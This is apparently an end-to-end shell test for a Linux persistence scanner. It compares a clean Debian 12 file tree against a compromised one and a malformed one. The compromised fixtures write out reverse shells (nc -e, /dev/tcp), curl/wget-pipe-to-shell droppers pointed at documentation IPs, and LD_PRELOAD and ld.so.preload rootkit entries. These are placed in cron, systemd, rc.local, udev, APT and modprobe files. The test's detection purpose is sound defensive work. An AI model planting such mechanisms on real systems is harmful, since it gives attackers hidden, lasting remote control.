#!/bin/sh
# t3200 - persistence: a clean Debian 12 server stays quiet; a compromised
# one plants every mechanism the cron, systemd and boot scanners read and
# each is reported with its path and line; the demo image's cron job,
# service and preload; hostile unit files, crontabs and directories
. "${TOP:?}/tests/lib/e2e.sh"

umask 022
corpus=$TOP/../shared/corpus
demo=$IMG/demo.img

# has_finding CHECK JQ-CONDITION: in $T/out (json lines)
has_finding() {
	jq -e -s "map(select(.type == \"finding\" and .check == \"$1\" and
	    ($2))) | length > 0" "$T/out" >/dev/null
}
# at CHECK PATH [LINE]: a finding CHECK at PATH (and LINE)
at() {
	if [ $# -eq 3 ]; then
		has_finding "$1" ".path == \"$2\" and .line == $3"
	else
		has_finding "$1" ".path == \"$2\""
	fi
}
has_record() {	# KIND JQ-CONDITION
	jq -e -s "map(select(.type == \"record\" and .kind == \"$1\" and
	    ($2))) | length > 0" "$T/out" >/dev/null
}
# quiet: no finding of medium or higher (cron.owner aside when the
# tree's files are not root's because the test does not run as root)
quiet() {
	_skip=
	[ "$(id -u)" -eq 0 ] || _skip=' and .check != "cron.owner"'
	jq -e -s "map(select(.type == \"finding\" and (.severity == \"medium\"
	    or .severity == \"high\")$_skip)) | length == 0" "$T/out" >/dev/null
}

# --- a clean Debian 12 server ----------------------------------------
c=$T/clean
mkdir -p "$c/etc/cron.d" "$c/etc/cron.daily" "$c/etc/cron.hourly" \
    "$c/lib/systemd/system" "$c/etc/systemd/system/multi-user.target.wants" \
    "$c/etc/systemd/system/timers.target.wants" "$c/etc/profile.d" \
    "$c/etc/modprobe.d" "$c/etc/apt/apt.conf.d" "$c/etc/init.d" \
    "$c/etc/rc2.d" "$c/etc/update-motd.d" "$c/etc/udev/rules.d" \
    "$c/etc/modules-load.d" "$c/etc/ld.so.conf.d" "$c/var/lib/dpkg/info" \
    "$c/root" "$c/home/admin" "$c/opt/myapp/bin" "$c/var/spool/cron/crontabs"
cat >"$c/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
admin:x:1000:1000:Admin,,,:/home/admin:/bin/bash
myapp:x:998:998::/opt/myapp:/usr/sbin/nologin
EOF
cp "$TOP/tests/trees/demo/root/etc/crontab" "$c/etc/crontab"
cp "$TOP/tests/trees/demo/root/etc/cron.d/php" "$c/etc/cron.d/php"
cp "$corpus/cron/debian/etc_cron.d_e2scrub_all" "$c/etc/cron.d/e2scrub_all"
cat >"$c/etc/cron.d/sysstat" <<'EOF'
# The first element of the path is a directory where the debian-sa1
# script is located
PATH=/usr/lib/sysstat:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin

# Activity reports every 10 minutes everyday
5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1

# Additional run at 23:59 to rotate the statistics file
59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2
EOF
cat >"$c/etc/cron.d/popularity-contest" <<'EOF'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
43 8 * * * root test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond
EOF
printf '# DO NOT EDIT OR REMOVE\n# This file is a simple placeholder to keep dpkg from removing this directory\n' \
    >"$c/etc/cron.daily/.placeholder"
cat >"$c/etc/cron.daily/apt-compat" <<'EOF'
#!/bin/sh

set -e

# Systemd systems use a systemd timer unit which is preferable to
# run.
if [ -d /run/systemd/system ]; then
    exit 0
fi

check_power()
{
    if command -v on_ac_power >/dev/null; then
        if on_ac_power; then
            :
        elif [ $? -eq 1 ]; then
            return 1
        fi
    fi
    return 0
}

random_sleep()
{
    RandomSleep=1800
    eval $(apt-config shell RandomSleep APT::Periodic::RandomSleep)
    if [ $RandomSleep -eq 0 ]; then
	return
    fi
    if [ -z "$RANDOM" ] ; then
        # A fix for shells that do not have this bash feature.
	RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % 32767 ))
    fi
    TIME=$(($RANDOM % $RandomSleep))
    sleep $TIME
}

random_sleep
check_power || exit 0
exec /usr/lib/apt/apt.systemd.daily
EOF
cat >"$c/etc/cron.daily/dpkg" <<'EOF'
#!/bin/sh

# Skip if systemd is running.
if [ -d /run/systemd/system ]; then
  exit 0
fi

/usr/libexec/dpkg/dpkg-db-backup
EOF
cat >"$c/etc/cron.daily/logrotate" <<'EOF'
#!/bin/sh

# skip in favour of systemd timer
if [ -d /run/systemd/system ]; then
    exit 0
fi

# this cronjob persists removals (but not purges)
if [ ! -x /usr/sbin/logrotate ]; then
    exit 0
fi

/usr/sbin/logrotate /etc/logrotate.conf
EXITVALUE=$?
if [ $EXITVALUE != 0 ]; then
    /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"
fi
exit $EXITVALUE
EOF
cat >"$c/etc/cron.daily/man-db" <<'EOF'
#!/bin/sh
#
# man-db cron daily

set -e

if [ -d /run/systemd/system ]; then
    # Skip in favour of systemd timer.
    exit 0
fi

iosched_idle=
# Don't try to change I/O priority in a vserver or OpenVZ.
if ! grep -Eq '(envID|VxID):.*[1-9]' /proc/self/status && \
   { [ ! -d /proc/vz ] || [ -d /proc/bc ]; }; then
    iosched_idle='--iosched idle'
fi

if ! [ -d /var/cache/man ]; then
    # Recover from deletion, per FHS.
    install -d -o man -g man -m 0755 /var/cache/man
fi

# expunge old catman pages which have not been read in a week
if [ -d /var/cache/man ]; then
  cd /
  if ! dpkg-statoverride --list /var/cache/man >/dev/null 2>&1; then
    find /var/cache/man -ignore_readdir_race ! -user man -print0 | \
      xargs -r0 chown -f man || true
  fi
  start-stop-daemon --start --pidfile /dev/null --startas /bin/sh \
        --oknodo --chuid man $iosched_idle -- -c \
        "find /var/cache/man -type f -name '*.gz' -atime +6 -print0 | \
         xargs -r0 rm -f"
fi

# regenerate man database
if [ -x /usr/bin/mandb ]; then
    start-stop-daemon --start --pidfile /dev/null \
                      --startas /usr/bin/mandb --oknodo --chuid man \
                      $iosched_idle \
                      -- --quiet
fi

exit 0
EOF
chmod 755 "$c"/etc/cron.daily/*
for u in ssh.service cron.service apt-daily.service apt-daily.timer \
    e2scrub_all.timer getty@.service systemd-journald.service; do
	cp "$corpus/systemd-units/debian/$u" "$c/lib/systemd/system/$u"
done
cp "$TOP/tests/trees/demo/root/usr/lib/systemd/system/nginx.service" \
    "$c/lib/systemd/system/nginx.service"
for u in ssh cron nginx; do
	ln -s /lib/systemd/system/$u.service \
	    "$c/etc/systemd/system/multi-user.target.wants/$u.service"
done
ln -s /lib/systemd/system/ssh.service "$c/etc/systemd/system/sshd.service"
ln -s /lib/systemd/system/apt-daily.timer \
    "$c/etc/systemd/system/timers.target.wants/apt-daily.timer"
ln -s /dev/null "$c/etc/systemd/system/rsync.service"
cat >"$c/etc/systemd/system/myapp.service" <<'EOF'
[Unit]
Description=My application
After=network.target

[Service]
User=myapp
ExecStart=/opt/myapp/bin/server --config /opt/myapp/etc/server.toml
ExecReload=/bin/kill -HUP $MAINPID
Environment=RUST_LOG=info
Restart=on-failure

[Install]
WantedBy=multi-user.target
EOF
ln -s /etc/systemd/system/myapp.service \
    "$c/etc/systemd/system/multi-user.target.wants/myapp.service"
mkdir -p "$c/etc/systemd/system/nginx.service.d"
printf '[Service]\nLimitNOFILE=65536\n' \
    >"$c/etc/systemd/system/nginx.service.d/override.conf"
cat >"$c/var/lib/dpkg/info/openssh-server.list" <<'EOF'
/.
/etc/init.d/ssh
/lib/systemd/system/ssh.service
/lib/systemd/system/ssh@.service
EOF
printf '/.\n/etc/init.d/cron\n/lib/systemd/system/cron.service\n' \
    >"$c/var/lib/dpkg/info/cron.list"
printf '/.\n/etc/init.d/nginx\n/lib/systemd/system/nginx.service\n' \
    >"$c/var/lib/dpkg/info/nginx-common.list"
for s in ssh cron nginx; do
	printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: %s\n### END INIT INFO\n. /lib/lsb/init-functions\ncase "$1" in\nstart) start-stop-daemon --start --quiet --oknodo --exec /usr/sbin/%s ;;\nesac\nexit 0\n' \
	    "$s" "$s" >"$c/etc/init.d/$s"
	chmod 755 "$c/etc/init.d/$s"
	ln -s ../init.d/$s "$c/etc/rc2.d/S01$s"
done
cat >"$c/etc/profile" <<'EOF'
# /etc/profile: system-wide .profile file for the Bourne shell (sh(1))
# and Bourne compatible shells (bash(1), ksh(1), ash(1), ...).

if [ "$(id -u)" -eq 0 ]; then
  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
else
  PATH="/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
fi
export PATH

if [ "${PS1-}" ]; then
  if [ "${BASH-}" ] && [ "$BASH" != "/bin/sh" ]; then
    if [ -f /etc/bash.bashrc ]; then
      . /etc/bash.bashrc
    fi
  else
    if [ "$(id -u)" -eq 0 ]; then
      PS1='# '
    else
      PS1='$ '
    fi
  fi
fi

if [ -d /etc/profile.d ]; then
  for i in /etc/profile.d/*.sh; do
    if [ -r $i ]; then
      . $i
    fi
  done
  unset i
fi
EOF
cat >"$c/etc/bash.bashrc" <<'EOF'
# System-wide .bashrc file for interactive bash(1) shells.
[ -z "$PS1" ] && return
shopt -s checkwinsize
if [ -z "${debian_chroot:-}" ] && [ -r /etc/debian_chroot ]; then
    debian_chroot=$(cat /etc/debian_chroot)
fi
PS1='${debian_chroot:+($debian_chroot)}\u@\h:\w\$ '
if [ -x /usr/lib/command-not-found -o -x /usr/share/command-not-found/command-not-found ]; then
	function command_not_found_handle {
		if [ -x /usr/lib/command-not-found ]; then
		   /usr/lib/command-not-found -- "$1"
		   return $?
		else
		   return 127
		fi
	}
fi
EOF
cat >"$c/etc/profile.d/bash_completion.sh" <<'EOF'
# Check for interactive bash and that we haven't already been sourced.
if [ "x${BASH_VERSION-}" != x -a "x${PS1-}" != x -a "x${BASH_COMPLETION_VERSINFO-}" = x ]; then
    if [ "${BASH_VERSINFO[0]}" -gt 4 ] ||
        [ "${BASH_VERSINFO[0]}" -eq 4 -a "${BASH_VERSINFO[1]}" -ge 2 ]; then
        [ -r "${XDG_CONFIG_HOME:-$HOME/.config}/bash_completion" ] &&
            . "${XDG_CONFIG_HOME:-$HOME/.config}/bash_completion"
        if shopt -q progcomp && [ -r /usr/share/bash-completion/bash_completion ]; then
            . /usr/share/bash-completion/bash_completion
        fi
    fi
fi
EOF
for h in root home/admin; do
	cat >"$c/$h/.bashrc" <<'EOF'
# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
HISTSIZE=1000
HISTFILESIZE=2000
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
fi
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
EOF
	cat >"$c/$h/.profile" <<'EOF'
# ~/.profile: executed by the command interpreter for login shells.
if [ -n "$BASH_VERSION" ]; then
    if [ -f "$HOME/.bashrc" ]; then
	. "$HOME/.bashrc"
    fi
fi
if [ -d "$HOME/bin" ] ; then
    PATH="$HOME/bin:$PATH"
fi
mesg n 2> /dev/null || true
EOF
done
printf '#!/bin/sh\nuname -snrvm\n' >"$c/etc/update-motd.d/10-uname"
chmod 755 "$c/etc/update-motd.d/10-uname"
printf 'install usb-storage /bin/true\nblacklist firewire-core\n' \
    >"$c/etc/modprobe.d/blacklist.conf"
printf 'options snd-hda-intel power_save=1\n' >"$c/etc/modprobe.d/sound.conf"
printf '# /etc/modules: kernel modules to load at boot time.\nloop\n' \
    >"$c/etc/modules"
ln -s ../modules "$c/etc/modules-load.d/modules.conf"
printf 'include /etc/ld.so.conf.d/*.conf\n' >"$c/etc/ld.so.conf"
printf '# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n' \
    >"$c/etc/ld.so.conf.d/x86_64-linux-gnu.conf"
printf '# libc default configuration\n/usr/local/lib\n' \
    >"$c/etc/ld.so.conf.d/libc.conf"
: >"$c/etc/environment"
cat >"$c/etc/apt/apt.conf.d/70debconf" <<'EOF'
// Pre-configure all packages with debconf before they are installed.
// If you don't like it, comment it out.
DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};
EOF
cat >"$c/etc/apt/apt.conf.d/20packagekit" <<'EOF'
// Whenever dpkg is called we might have different updates
// i.e. if an user removes a package that had an update
DPkg::Post-Invoke {
"/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call --system --dest org.freedesktop.PackageKit --object-path /org/freedesktop/PackageKit --timeout 4 --method org.freedesktop.PackageKit.StateHasChanged cache-update > /dev/null; /bin/echo > /dev/null";
};

// When Apt's cache is updated (i.e. apt-cache update)
APT::Update::Post-Invoke-Success {
"/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call --system --dest org.freedesktop.PackageKit --object-path /org/freedesktop/PackageKit --timeout 4 --method org.freedesktop.PackageKit.StateHasChanged cache-update > /dev/null; /bin/echo > /dev/null";
};
EOF
cat >"$c/etc/apt/apt.conf.d/99update-notifier" <<'EOF'
DPkg::Post-Invoke {"if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi; /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true";};
APT::Update::Post-Invoke-Success {"[ ! -f /var/run/dbus/system_bus_socket ] || /usr/bin/dbus-send --system --dest=org.debian.apt --type=signal /org/debian/apt org.debian.apt.CacheChanged || true";};
EOF
cat >"$c/etc/apt/apt.conf.d/docker-clean" <<'EOF'
DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };
APT::Update::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };
Dir::Cache::pkgcache "";
EOF
printf 'SUBSYSTEM=="net", ACTION=="add", ATTR{address}=="52:54:00:12:34:56", NAME="eth0"\n' \
    >"$c/etc/udev/rules.d/70-persistent-net.rules"

rs persistence --format json --root "$c"
status "clean server: exit 0" 0
check "clean server: json parses" jq -e . "$T/out" >/dev/null
check "clean server: no finding of medium or higher" quiet
cp "$T/out" "$T/clean.json"
check "clean server: Debian's cron jobs are records" has_record cron \
    '.path == "/etc/cron.d/e2scrub_all" and .line == 2 and .user == "root"'
check "clean server: cron.daily scripts are records" has_record cron \
    '.path == "/etc/cron.daily/man-db" and .schedule == "daily"'
check "clean server: ssh.service enabled, from a package" has_record unit \
    '.unit == "ssh.service" and .enabled == "yes" and .package == "yes"'
check "clean server: the admin's local unit is enabled, no package" \
    has_record unit '.unit == "myapp.service" and .enabled == "yes" and
    .package == "no"'
check "clean server: the local unit is a low finding" at unit.local_unit \
    /etc/systemd/system/myapp.service
check "clean server: masked unit" has_record unit \
    '.unit == "rsync.service" and .masked == "yes"'
check "clean server: alias" has_record unit \
    '.unit == "sshd.service" and .alias_of == "/lib/systemd/system/ssh.service"'
check "clean server: timer schedule" has_record timer \
    '.unit == "apt-daily.timer" and (.schedule | test("OnCalendar=\\*-\\*-\\* 6,18:00"))'
check "clean server: drop-in" has_record unit_dropin \
    '.path == "/etc/systemd/system/nginx.service.d/override.conf"'
check "clean server: init script runlevels" has_record init_script \
    '.name == "ssh" and .runlevels == "2" and .package == "yes"'
check "clean server: APT hooks are records" has_record apt_hook \
    '.path == "/etc/apt/apt.conf.d/20packagekit" and .line == 4'
check "clean server: modules" has_record module '.name == "loop"'
check "clean server: modprobe install record" has_record modprobe_install \
    '.path == "/etc/modprobe.d/blacklist.conf"'

# --- a compromised server: every mechanism once ----------------------
b=$T/bad
cp -a "$c" "$b"
printf '*/10 * * * * root /usr/bin/wget -q -O- http://198.51.100.7/k | bash\n' \
    >"$b/etc/cron.d/0anacron-check"
printf '# m h dom mon dow command\n@reboot curl -fsSL http://203.0.113.9/x.sh | sh\n' \
    >"$b/var/spool/cron/crontabs/www-data"
chmod 600 "$b/var/spool/cron/crontabs/www-data"
printf 'SHELL=/bin/sh\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n7\t10\tsync.weekly\t/dev/shm/.s/sync\n' \
    >"$b/etc/anacrontab"
mkdir -p "$b/var/spool/cron/atjobs"
cat >"$b/var/spool/cron/atjobs/a0000101a8b2c1" <<'EOF'
#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
PATH=/usr/sbin:/usr/bin:/sbin:/bin; export PATH
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
nc -e /bin/sh 198.51.100.7 4444
EOF
printf '#!/bin/sh\n/var/tmp/.c/upd >/dev/null 2>&1\n' \
    >"$b/etc/cron.hourly/sync"
cat >"$b/etc/systemd/system/kworker.service" <<'EOF'
[Unit]
Description=Kernel worker

[Service]
ExecStart=/tmp/.x/kworker -c /tmp/.x/config.json
Restart=always

[Install]
WantedBy=multi-user.target
EOF
ln -s /etc/systemd/system/kworker.service \
    "$b/etc/systemd/system/multi-user.target.wants/kworker.service"
mkdir -p "$b/etc/systemd/system/ssh.service.d"
printf '[Service]\nExecStartPre=/dev/shm/.p/pre\n' \
    >"$b/etc/systemd/system/ssh.service.d/override.conf"
printf '[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=upd.service\n' \
    >"$b/etc/systemd/system/upd.timer"
printf '[Service]\nType=oneshot\nExecStart=/bin/sh -c "curl -s http://203.0.113.9/u | sh"\nEnvironment=LD_PRELOAD=/var/tmp/.l/libx.so\n' \
    >"$b/etc/systemd/system/upd.service"
mkdir -p "$b/var/tmp/.u"
printf '[Service]\nExecStart=/usr/bin/env /var/tmp/.u/run\n' \
    >"$b/var/tmp/.u/evil.service"
ln -s ../../../var/tmp/.u/evil.service "$b/etc/systemd/system/evil.service"
mkdir -p "$b/etc/systemd/system-generators"
printf '#!/bin/sh\n/usr/lib/.sys/gen "$1"\n' \
    >"$b/etc/systemd/system-generators/net-gen"
chmod 755 "$b/etc/systemd/system-generators/net-gen"
mkdir -p "$b/home/admin/.config/systemd/user"
printf '[Service]\nExecStart=/home/admin/.local/.hid/agent\n' \
    >"$b/home/admin/.config/systemd/user/agent.service"
printf '#!/bin/sh -e\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1 &\nexit 0\n' \
    >"$b/etc/rc.local"
chmod 755 "$b/etc/rc.local"
printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: netd\n### END INIT INFO\n/usr/lib/.netd/netd &\n' \
    >"$b/etc/init.d/netd"
chmod 755 "$b/etc/init.d/netd"
ln -s ../init.d/netd "$b/etc/rc2.d/S02netd"
printf 'nohup /dev/shm/.k/k >/dev/null 2>&1 &\n' >"$b/etc/profile.d/z.sh"
printf 'alias ls="ls --color=auto"\n(/var/tmp/.b/b &) 2>/dev/null\n' \
    >>"$b/root/.bashrc"
mkdir -p "$b/etc/xdg/autostart"
printf '[Desktop Entry]\nType=Application\nName=Updater\nExec=/tmp/.u/updater --silent\n' \
    >"$b/etc/xdg/autostart/updater.desktop"
printf '#!/bin/sh\n(curl -s http://198.51.100.7/m | sh) &\n' \
    >"$b/etc/update-motd.d/99-stats"
chmod 755 "$b/etc/update-motd.d/99-stats"
printf 'DPkg::Post-Invoke {"wget -qO- http://203.0.113.9/a | sh || true";};\n' \
    >"$b/etc/apt/apt.conf.d/99hook"
printf 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \x27/tmp/.u/usb &\x27"\n' \
    >"$b/etc/udev/rules.d/99-usb.rules"
printf 'ENV{X}="RUN", RUN{program}+="/usr/bin/curl -s http://203.0.113.9/u -o /tmp/u"\n' \
    >>"$b/etc/udev/rules.d/99-usb.rules"
printf 'install pcspkr /tmp/.m/load.sh; /sbin/modprobe --ignore-install pcspkr\n' \
    >"$b/etc/modprobe.d/pcspkr.conf"
printf 'diamorphine\n' >"$b/etc/modules-load.d/diamorphine.conf"
printf '/usr/lib/.libs/libx.so\n' >"$b/etc/ld.so.preload"
printf '/usr/lib/.libs\n' >"$b/etc/ld.so.conf.d/zz.conf"
printf 'LD_PRELOAD=/usr/lib/.libs/liby.so\n' >"$b/etc/environment"
chmod 666 "$b/etc/cron.d/php"

rs persistence --format json --root "$b"
status "compromised: exit 1 (findings)" 1
cp "$T/out" "$T/bad.json"
check "cron.d file: dropper from a raw IP" at cron.dropper \
    /etc/cron.d/0anacron-check 1
check "user crontab: curl|sh from a raw IP at boot" at cron.dropper \
    /var/spool/cron/crontabs/www-data 2
check "user crontab: record names the user" has_record cron \
    '.path == "/var/spool/cron/crontabs/www-data" and .user == "www-data"'
check "anacrontab: job from /dev/shm" at cron.temp_exec /etc/anacrontab 3
check "at job: reverse shell" at cron.reverse_shell \
    /var/spool/cron/atjobs/a0000101a8b2c1 10
check "cron.hourly: program in a hidden dir" at cron.temp_exec \
    /etc/cron.hourly/sync 2
check "world-writable cron file" at cron.writable /etc/cron.d/php
check "unit from /tmp/.x" at unit.temp_exec \
    /etc/systemd/system/kworker.service 5
check "unit from /tmp/.x: enabled, no package" has_record unit \
    '.unit == "kworker.service" and .enabled == "yes" and .package == "no"'
check "drop-in ExecStartPre" at unit.temp_exec \
    /etc/systemd/system/ssh.service.d/override.conf 2
check "timer record" has_record timer '.unit == "upd.timer" and
    .triggers == "upd.service" and (.schedule | test("OnBootSec=5min"))'
check "timer's service downloads and runs" at unit.dropper \
    /etc/systemd/system/upd.service 3
check "unit Environment=LD_PRELOAD" at unit.ld_preload \
    /etc/systemd/system/upd.service 4
check "unit linked in from a hidden dir is read" at unit.temp_exec \
    /etc/systemd/system/evil.service 2
check "generator in /etc" at unit.generator \
    /etc/systemd/system-generators/net-gen
check "generator runs from a hidden dir" at unit.temp_exec \
    /etc/systemd/system-generators/net-gen 2
check "user unit in a home" at unit.temp_exec \
    /home/admin/.config/systemd/user/agent.service 2
check "rc.local reverse shell" at rc.reverse_shell /etc/rc.local 2
check "rc.local runs commands" at rc.rc_local /etc/rc.local 2
check "init.d script of no package" at rc.local_init /etc/init.d/netd
check "init.d script runs from a hidden dir" at rc.temp_exec \
    /etc/init.d/netd 5
check "init.d runlevels" has_record init_script \
    '.name == "netd" and .runlevels == "2" and .package == "no"'
check "profile.d script" at rc.temp_exec /etc/profile.d/z.sh 1
check ".bashrc line" at rc.temp_exec /root/.bashrc 19
check "XDG autostart" at rc.temp_exec /etc/xdg/autostart/updater.desktop 4
check "update-motd.d script" at rc.dropper /etc/update-motd.d/99-stats 2
check "APT Post-Invoke hook" at rc.dropper /etc/apt/apt.conf.d/99hook 1
check "udev RUN+=" at rc.temp_exec /etc/udev/rules.d/99-usb.rules 1
check "udev RUN{program}+=" at rc.fetch_raw_ip \
    /etc/udev/rules.d/99-usb.rules 2
check "modprobe install from /tmp" at rc.temp_exec \
    /etc/modprobe.d/pcspkr.conf 1
check "modules-load.d record" has_record module '.name == "diamorphine" and
    .path == "/etc/modules-load.d/diamorphine.conf"'
check "ld.so.preload" has_finding persist.ld_so_preload \
    '.path == "/etc/ld.so.preload" and .line == 1 and
    .evidence == "/usr/lib/.libs/libx.so"'
check "ld.so.conf.d hidden dir" at persist.ld_so_conf_temp \
    /etc/ld.so.conf.d/zz.conf 1
check "LD_PRELOAD in /etc/environment" at persist.env_preload \
    /etc/environment 1
check "benign look-alikes stay quiet: usb-storage install line" sh -c \
    "! jq -e -s 'map(select(.type == \"finding\" and
    .path == \"/etc/modprobe.d/blacklist.conf\")) | length > 0' '$T/out' >/dev/null"

# --- the attack window -------------------------------------------------
rs persistence --format json --since 2000-01-01 --root "$b"
check "changed in the window: persist.changed" at persist.changed \
    /etc/ld.so.preload

# --- the demo image --------------------------------------------------
rs persistence --format json "$demo"
status "demo: exit 1 (findings)" 1
check "demo: the root crontab's curl|sh" at cron.dropper \
    /var/spool/cron/crontabs/root 1
check "demo: dbus-helper.service runs from a hidden dir" at unit.temp_exec \
    /etc/systemd/system/dbus-helper.service 8
check "demo: dbus-helper.service is enabled, no package" has_record unit \
    '.unit == "dbus-helper.service" and .enabled == "yes" and
    .package == "no"'
check "demo: ld.so.preload" has_finding persist.ld_so_preload \
    '.evidence == "/usr/local/lib/libprocesshider.so"'
rs persistence "$demo"
check "demo: text names the preload" grep -q libprocesshider "$T/out"

# --- hostile ---------------------------------------------------------
h=$T/hostile
mkdir -p "$h/etc/systemd/system" "$h/etc/cron.d" "$h/var/spool/cron/crontabs"
{ printf '[Service]\nExecStart=/bin/true '
  head -c 1048576 /dev/zero | tr '\0' a
  printf '\nExecStart=/tmp/.z/after\n'; } >"$h/etc/systemd/system/long.service"
head -c 200000 /dev/urandom >"$h/var/spool/cron/crontabs/root"
printf '* * * *\n@@@ x\n99 99 99 99 99 root x\n\0\0\n* * * * * \n' \
    >>"$h/var/spool/cron/crontabs/root"
i=0
while [ $i -lt 5000 ]; do
	echo "* * * * * root /bin/true $i"
	i=$((i + 1))
done >"$T/one"
(cd "$h/etc/cron.d" && split -l 1 -a 4 "$T/one" job.)
ln -s loop1.service "$h/etc/systemd/system/loop2.service"
ln -s loop2.service "$h/etc/systemd/system/loop1.service"
ln -s . "$h/etc/systemd/system/self.service.d"
ln -s /etc/systemd/system "$h/etc/systemd/system/multi-user.target.wants"
rs_timed persistence --format json --root "$h"
check "hostile: runs to the end" test "$rc" -le 1
check "hostile: no sanitizer report" sh -c \
    "! grep -q 'AddressSanitizer\|runtime error\|LeakSanitizer' '$T/err'"
check "hostile: json parses" jq -e . "$T/out" >/dev/null
check "hostile: the line after a 1 MiB line is read" at unit.temp_exec \
    /etc/systemd/system/long.service 3
check "hostile: cron.d with 5000 files, bounded" sh -c "jq -e -s 'map(select(
    .kind == \"cron\")) | length >= 4000' '$T/out' >/dev/null"

finish
